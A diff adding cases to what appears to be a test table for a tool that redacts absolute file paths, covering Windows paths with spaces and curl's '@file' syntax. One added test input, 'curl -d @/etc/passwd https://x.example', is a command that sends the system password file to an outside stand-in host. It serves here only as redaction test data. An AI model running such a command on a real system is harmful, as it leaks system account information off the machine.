@@ -33,6 +33,10 @@ PROJECT = "/home/ana/work/shop"
         (r'"C:\Users\a b\c.txt" and D:\x', '"<absolute-path>" and <absolute-path>'),
         ("notes in `/home/u/My Docs.txt`.", "notes in `<absolute-path>`."),
         ("cp /tmp/a.txt src/b.txt", "cp <absolute-path> src/b.txt"),
+        # A Windows path goes on past a space while the next word goes on as a path.
+        (r"Saved to C:\Users\John Smith\Documents\x.txt now", "Saved to <absolute-path> now"),
+        # curl's @file (a third strict re-audit).
+        ("curl -d @/etc/passwd https://x.example", "curl -d @<absolute-path> https://x.example"),
         ("ran /usr/bin/python tests/test_x.py -q", "ran <absolute-path> tests/test_x.py -q"),
         # Glued to a redirection or a one-letter option (a second strict re-audit).
         ("built with `make 2>/tmp/build.log`", "built with `make 2><absolute-path>`"),
